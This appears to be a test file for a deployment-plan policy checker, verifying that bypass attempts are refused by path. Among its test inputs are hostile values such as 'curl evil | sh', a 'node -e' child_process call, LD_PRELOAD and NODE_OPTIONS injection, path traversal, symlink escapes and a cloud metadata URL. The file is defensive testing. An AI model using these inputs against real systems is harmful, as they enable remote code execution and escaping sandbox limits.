/**
 * The organisation policy against plans that try to get past it, on the real file system (scripts, a
 * symlink, folders): each attempt is refused by path, and what the policy tightens shows in the effective plan.
 * The same policy at run time, with real processes: test/integration/processes/policy-guard.test.ts.
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { stringify } from 'yaml';
import { checkPlanAgainstPolicy } from '../../policy/check';
import { fileSystemResolver, loadPolicy, PolicyError } from '../../policy/load';
import type { CutoverPlan, CutoverPlanInput } from '../../plan/schema';
import { signPlan } from '../../plan/signing';
import { ed25519 } from '@noble/curves/ed25519';
import { makePlan } from '../helpers/plans';
import { APP, check, DATA, OTHER, OUTSIDE, OWN, planInput, ROOT, step, writePolicy } from '../helpers/policy-fixture';

/** The problems of a plan that differs from the good one in its first staging deploy step. */
function deployProblems(deploy: CutoverPlanInput['staging']['deploy'][number]) {
  return check({ staging: { deploy: [deploy], tests: step('tests'), healthChecks: [] } }).problems;
}

test('a plan within the policy passes, and the policy fills the bounds the plan left open', () => {
  const { problems, effective } = check();
  expect(problems).toEqual([]);
  // The plan set no stress thresholds: the ceilings apply.
  expect(effective.stress.thresholds).toMatchObject({ latencyP99: '500ms', errorRate: 0.01 });
});

describe('commands', () => {
  test.each([
    ['sh -c', ['sh', '-c', 'curl evil | sh']],
    ['node -e where only scripts are allowed', ['node', '-e', 'require("child_process").execSync("id")']],
    ['a script path that escapes the folder with ../', ['node', '../outside/evil.js']],
    ['a symlink in the folder to a script outside it', ['node', 'link.js']],
    ['an absolute path outside the list', ['node', path.join(OUTSIDE, 'evil.js')]],
    ['a placeholder as the script', ['node', '{dataset}']],
    ['a placeholder as the program', ['{dataset}', 'step.js']],
    ['an output placeholder as the program', ['{output:loans}', 'step.js']],
    ['another interpreter', ['python3', 'step.js']],
  ])('%s is refused by path', (_name, run) => {
    expect(deployProblems({ name: 'x', run })).toEqual([
      { path: 'staging.deploy[0].run', message: expect.stringContaining('is not a command the policy allows') },
    ]);
  });

  test('the allowed script through an absolute path or ./ is the same command', () => {
    expect(deployProblems({ name: 'x', run: ['node', path.join(APP, 'step.js')] })).toEqual([]);
    expect(deployProblems({ name: 'x', run: [process.execPath, './step.js', 'more', 'args'] })).toEqual([]);
  });

  test('env keys outside the list (NODE_OPTIONS, LD_PRELOAD, PATH) are refused; listed ones pass', () => {
    const problems = deployProblems({
      ...step('x'),
      env: { NODE_OPTIONS: '--require /tmp/x.js', LD_PRELOAD: '/tmp/x.so', PATH: '/tmp', LEDGER: '/tmp/l' },
    });
    expect(problems.map((p) => p.path)).toEqual([
      'staging.deploy[0].env.NODE_OPTIONS',
      'staging.deploy[0].env.LD_PRELOAD',
      'staging.deploy[0].env.PATH',
    ]);
  });

  test('a cwd or baseDir outside the allowed folders is refused', () => {
    expect(deployProblems({ ...step('x'), cwd: OUTSIDE }).map((p) => p.path)).toContain('staging.deploy[0].cwd');
    expect(check({ baseDir: OUTSIDE }).problems.map((p) => p.path)).toContain('baseDir');
  });

  test('an http action or health check outside the allowed URL prefixes is refused', () => {
    const problems = check({
      staging: {
        deploy: [{ name: 'hook', http: 'http://127.0.0.1:8080/deploy' }],
        healthChecks: [{ http: 'http://169.254.169.254/latest/meta-data' }],
      },
    }).problems;
    expect(problems).toEqual([
      { path: 'staging.healthChecks[0].http', message: expect.stringContaining('not under a URL prefix') },
    ]);
  });
});

describe('sign-off', () => {
  test('the author as every approver, with allowInitiator, is refused on every count', () => {
    const roles = { engineering: ['rm'], qa: ['rm'], architecture: ['rm'], operations: ['rm'], business: ['rm'] };
    const { problems } = check({
      initiator: 'rm',
      signoff: { roles, allowInitiator: true, separationOfDuties: false },
    });
    expect(problems.map((p) => p.path)).toEqual([
      'signoff.roles.engineering[0]',
      'signoff.roles.qa[0]',
      'signoff.roles.architecture[0]',
      'signoff.roles.operations[0]',
      'signoff.roles.business[0]',
      'signoff.separationOfDuties',
      'signoff.allowInitiator',
    ]);
  });

  test('a missing role is refused; a quorum below the minimum is raised', () => {
    const input = planInput();
    const { business: _dropped, ...roles } = input.signoff.roles;
    expect(check({ signoff: { ...input.signoff, roles } }).problems).toEqual([
      { path: 'signoff.roles', message: 'the policy requires role "business"' },
    ]);
    const policy = writePolicy({
      roles: { qa: { approvers: ['bo', 'bea'], minQuorum: 2 } },
    });
    const { problems, effective } = check(
      { signoff: { ...input.signoff, roles: { ...input.signoff.roles, qa: ['bo', 'bea'] } } },
      policy,
    );
    expect(problems).toEqual([]);
    expect(effective.signoff.quorum).toMatchObject({ qa: 2, engineering: 1 });
  });
});

describe('ceilings', () => {
  test('tolerances, thresholds, the rollback target and triggers looser than the ceilings are refused', () => {
    const base = planInput();
    const { problems } = check({
      shadow: { ...base.shadow, tolerances: { PAR30: { relative: 0.5 }, PAR90: { absolute: 1 } } },
      stress: { ...base.stress, thresholds: { latencyP99: '2s', errorRate: 0.5 } },
      rollback: { ...step('rollback'), target: '1h' },
      production: {
        ...base.production,
        monitor: { ...base.production.monitor, triggers: { errorRate: 0.5, failedProbes: 10 } },
      },
    });
    expect(problems.map((p) => p.path)).toEqual([
      'shadow.tolerances.PAR30.relative',
      'shadow.tolerances.PAR90.absolute',
      'stress.thresholds.latencyP99',
      'stress.thresholds.errorRate',
      'rollback.target',
      'production.monitor.triggers.errorRate',
      'production.monitor.triggers.failedProbes',
    ]);
  });

  test('output diffs looser than the ceilings are refused by path: limits, column tolerances, text tolerance, ignored columns', () => {
    const base = planInput();
    const writes = (action: CutoverPlanInput['baseline']) => ({
      ...action,
      run: [...action.run, '{output:loans}'],
    });
    const policy = writePolicy({
      ceilings: {
        outputs: {
          maxDifferingRows: 0,
          maxMissingRows: 5,
          tolerance: { absolute: 0.01 },
          textTolerance: false,
          ignore: false,
        },
      },
    });
    const outputs = (loans: Record<string, unknown>) =>
      check(
        {
          baseline: writes(base.baseline),
          candidate: writes(base.candidate),
          shadow: { ...base.shadow, outputs: { loans: { key: ['id'], ...loans } } },
        },
        policy,
      ).problems;
    expect(
      outputs({
        maxDifferingRows: 3,
        maxMissingRows: 6,
        tolerances: { amount: { absolute: 0.5 }, rate: { relative: 0.01 }, name: { trim: true } },
        ignore: ['note'],
      }),
    ).toEqual([
      { path: 'shadow.outputs.loans.maxDifferingRows', message: "3 is looser than the policy's ceiling 0" },
      { path: 'shadow.outputs.loans.maxMissingRows', message: "6 is looser than the policy's ceiling 5" },
      {
        path: 'shadow.outputs.loans.tolerances.amount.absolute',
        message: "0.5 is looser than the policy's ceiling 0.01",
      },
      {
        path: 'shadow.outputs.loans.tolerances.rate.relative',
        message: 'the policy allows no relative tolerance on output columns',
      },
      {
        path: 'shadow.outputs.loans.tolerances.name',
        message: 'the policy allows no text tolerance (trim, ignoreCase)',
      },
      {
        path: 'shadow.outputs.loans.ignore',
        message: 'the policy allows no ignored columns: every column is compared',
      },
    ]);
    expect(outputs({ maxMissingRows: 5, tolerances: { amount: { absolute: 0.01 } } })).toEqual([]);
  });

  test('a stress comparison looser than the ceilings is refused by path; a required one is added where missing', () => {
    const base = planInput();
    const policy = writePolicy({
      ceilings: {
        compare: {
          required: true,
          maxSlowdown: 0.05,
          maxMemoryGrowth: 0.1,
          minConfidence: 0.99,
          inconclusivePass: false,
        },
      },
    });
    const loose = check(
      {
        stress: {
          ...base.stress,
          compare: { maxSlowdown: '20%', maxMemoryGrowth: 0.5, confidence: 0.9, onInconclusive: 'pass' },
        },
      },
      policy,
    );
    expect(loose.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
      "stress.compare.maxSlowdown: 0.2 is looser than the policy's ceiling 0.05",
      "stress.compare.maxMemoryGrowth: 0.5 is looser than the policy's ceiling 0.1",
      "stress.compare.confidence: 0.9 is below the policy's minimum 0.99",
      'stress.compare.onInconclusive: the policy does not let an inconclusive comparison pass',
    ]);
    const missing = check({}, policy);
    expect(missing.problems).toEqual([]);
    expect(missing.effective.stress.compare).toMatchObject({
      maxSlowdown: 0.05,
      maxMemoryGrowth: 0.1,
      confidence: 0.99,
      onInconclusive: 'fail',
    });
  });

  test('a stricter plan passes and keeps its own settings', () => {
    const base = planInput();
    const { problems, effective } = check({
      shadow: { ...base.shadow, tolerances: { PAR30: { relative: 0.01 } } },
      production: {
        ...base.production,
        monitor: { ...base.production.monitor, triggers: { errorRate: 0.001 } },
      },
    });
    expect(problems).toEqual([]);
    expect(effective.shadow.tolerances).toEqual({ PAR30: { relative: 0.01 } });
    // The triggers the plan left out come from the policy.
    expect(effective.production.monitor.triggers).toEqual({ errorRate: 0.001, kpiDrift: 0.05, failedProbes: 3 });
  });
});

test('a release no pipeline matches, with no default, is refused', () => {
  expect(check({ release: 'other-release' }).problems).toEqual([
    { path: 'release', message: `the workers' policy has no rules for release "other-release" (and no default)` },
  ]);
});

test('a bad policy file names every problem by path', () => {
  const file = path.join(ROOT, 'bad-policy.yaml');
  writeFileSync(file, stringify({ version: 2, pipelines: [{ match: 'a b', commands: { nowhere: [] } }] }));
  let err: unknown;
  try {
    loadPolicy(file);
  } catch (e) {
    err = e;
  }
  expect(err).toBeInstanceOf(PolicyError);
  expect((err as PolicyError).problems).toEqual([
    { path: 'version', message: expect.stringContaining('1') },
    { path: 'pipelines[0].commands', message: expect.stringContaining('"nowhere"') },
    { path: 'pipelines[0].match', message: expect.any(String) },
  ]);
});

describe("per environment: the policy's commands.staging|production|compute bound each environment's worker", () => {
  // Production's worker runs only the four production commands; the other environments keep `default`.
  const production = ['deploy', 'undo', 'probe', 'decommission'].map((name) => ['node', 'app/step.js', name]);
  const perEnvironment = () => writePolicy({ commands: { default: [['node', 'app/step.js']], production } });

  test("the plan's production steps within production's list pass; the rest keep default's", () => {
    expect(check({}, perEnvironment()).problems).toEqual([]);
  });

  test.each([
    ['a probe whose command production does not list', { probe: step('migrate') }, 'production.monitor.probe.run'],
    ['a deploy that runs another script name', { deploy: step('switch') }, 'production.deploy.run'],
  ])('%s is refused by argv, by path', (_what, change, where) => {
    const base = planInput();
    const productionInput = {
      ...base.production,
      ...('deploy' in change ? { deploy: change.deploy } : {}),
      ...('probe' in change ? { monitor: { ...base.production.monitor, probe: change.probe } } : {}),
    };
    expect(check({ production: productionInput }, perEnvironment()).problems).toEqual([
      { path: where, message: expect.stringContaining('is not a command the policy allows') },
    ]);
  });
});

describe("a cutover's reach: its own work folder and the policy's folders, never another cutover's", () => {
  const reach = { workdir: OWN, workRoot: path.join(DATA, 'work') };
  const reachProblems = (run: string[]) =>
    checkPlanAgainstPolicy(
      makePlan(planInput({ staging: { deploy: [{ name: 'x', run }], tests: step('tests'), healthChecks: [] } })),
      writePolicy(),
      fileSystemResolver,
      { reach },
    ).problems;

  test.each([
    ["another cutover's folder by absolute path", path.join(OTHER, 'production')],
    ["another cutover's folder through {workdir}/..", '{workdir}/../cutover-test-b/production'],
    ["another cutover's folder in --flag=VALUE form", `--target=${path.join(OTHER, 'production')}`],
    ['the work root itself', '{workdir}/..'],
    ['a folder outside the policy', path.join(OUTSIDE, 'x')],
    ["a symlink planted in the own work folder, pointing at another cutover's", '{workdir}/link/production'],
    ["a dangling symlink there, pointing at another cutover's folder still to come", '{workdir}/future/production'],
  ])('the plan check refuses %s, by path', (_what, target) => {
    const problems = reachProblems(['node', 'step.js', '--target', target]);
    expect(problems).toEqual([{ path: 'staging.deploy[0].run[3]', message: expect.stringMatching(/outside|another/) }]);
  });

  test('its own work folder, a file in the policy folder and non-path arguments pass', () => {
    expect(reachProblems(['node', 'step.js', '--target', '{workdir}/production', './step.js', 'v2'])).toEqual([]);
  });
});

describe('signed plans', () => {
  const rmKey = ed25519.utils.randomPrivateKey();
  const otherKey = ed25519.utils.randomPrivateKey();
  const hex = (bytes: Uint8Array) => Buffer.from(bytes).toString('hex');
  const signing = () =>
    writePolicy(
      { requireSignedPlans: true },
      { 'rm-2026': { signer: 'rm', publicKey: hex(ed25519.getPublicKey(rmKey)) } },
    );
  const by = (expiresInMs = 3_600_000, keyId = 'rm-2026', signer = 'rm') => ({
    keyId,
    signer,
    expiresAt: new Date(Date.now() + expiresInMs).toISOString(),
  });
  const problemsOf = (plan: CutoverPlan) =>
    checkPlanAgainstPolicy(plan, signing(), fileSystemResolver).problems.map((p) => `${p.path}: ${p.message}`);

  test('a plan signed by a release manager passes, and the signer is its initiator', () => {
    const signed = signPlan(makePlan(planInput({ initiator: 'someone' })), rmKey, by());
    const { problems, effective } = checkPlanAgainstPolicy(signed, signing(), fileSystemResolver);
    expect(problems).toEqual([]);
    expect(effective.initiator).toBe('rm');
  });

  test('missing, changed, moved to another release, expired, forged or by an unknown key: refused', () => {
    const signed = signPlan(makePlan(planInput()), rmKey, by());
    expect(problemsOf(makePlan(planInput()))).toEqual([
      'signature: the policy requires a plan signed by a release manager (cutover plan sign)',
    ]);
    // Changed after signing: one tolerance loosened (within the ceiling, so only the signature speaks).
    const changed = { ...signed, shadow: { ...signed.shadow, tolerances: { PAR30: { relative: 0.04 } } } };
    expect(problemsOf(changed)).toEqual([expect.stringMatching(/^signature: the signature does not verify/)]);
    // The same signature on the same plan for another release.
    expect(problemsOf({ ...signed, release: 'test-other' })).toEqual([
      expect.stringMatching(/^signature: the signature does not verify/),
    ]);
    // The signature of another plan.
    const other = signPlan(makePlan(planInput({ description: 'another plan' })), rmKey, by());
    expect(problemsOf({ ...signed, signature: other.signature })).toEqual([
      expect.stringMatching(/^signature: the signature does not verify/),
    ]);
    expect(problemsOf(signPlan(makePlan(planInput()), rmKey, by(-1000)))).toEqual([
      expect.stringMatching(/^signature: the signature expired at /),
    ]);
    // Signed with another key under the release manager's id and name: forged.
    expect(problemsOf(signPlan(makePlan(planInput()), otherKey, by()))).toEqual([
      expect.stringMatching(/^signature: the signature does not verify/),
    ]);
    expect(problemsOf(signPlan(makePlan(planInput()), otherKey, by(3_600_000, 'mallory-1')))).toEqual([
      `signature.keyId: "mallory-1" is not a release manager's key in the policy`,
    ]);
    expect(problemsOf(signPlan(makePlan(planInput()), rmKey, by(3_600_000, 'rm-2026', 'mallory')))).toEqual([
      'signature.signer: key "rm-2026" belongs to rm, not mallory',
    ]);
  });
});

describe("each pipeline's folders and commands are its own", () => {
  const policyWith = (name: string, pipelines: unknown[], defaults?: unknown) => {
    const file = path.join(ROOT, `${name}.yaml`);
    writeFileSync(file, stringify({ version: 1, pipelines, ...(defaults ? { default: defaults } : {}) }));
    return file;
  };
  const problemsOf = (file: string) => {
    try {
      loadPolicy(file);
      return [];
    } catch (err) {
      return (err as PolicyError).problems;
    }
  };

  test("a loose pipeline sharing a strict one's folder (or one inside it) or command is refused at load, by path", () => {
    const strict = { match: 'prod-*', folders: [APP], commands: { production: [['node', `${APP}/step.js`]] } };
    const loose = {
      match: 'sandbox-*',
      folders: [path.join(APP, 'sub'), OUTSIDE],
      commands: { default: [['node', 'app/step.js', 'anything']], compute: [['node']] },
    };
    expect(problemsOf(policyWith('shared', [strict, loose]))).toEqual([
      { path: 'pipelines[1].folders[0]', message: expect.stringContaining("overlaps pipelines[0]'s folder") },
      { path: 'pipelines[1].commands.default[0]', message: expect.stringContaining("is also pipelines[0]'s command") },
      { path: 'pipelines[1].commands.compute[0]', message: expect.stringContaining("is also pipelines[0]'s command") },
    ]);
    // The default is a pipeline like the others.
    expect(problemsOf(policyWith('shared-default', [strict], { folders: [ROOT] }))).toEqual([
      { path: 'pipelines[0].folders[0]', message: expect.stringContaining("overlaps default's folder") },
    ]);
  });

  test('pipelines with folders and commands of their own load', () => {
    const a = { match: 'a-*', folders: [APP], commands: { default: [['node', `${APP}/step.js`]] } };
    const b = { match: 'b-*', folders: [OUTSIDE], commands: { default: [['node', `${OUTSIDE}/evil.js`]] } };
    expect(problemsOf(policyWith('separate', [a, b]))).toEqual([]);
  });
});
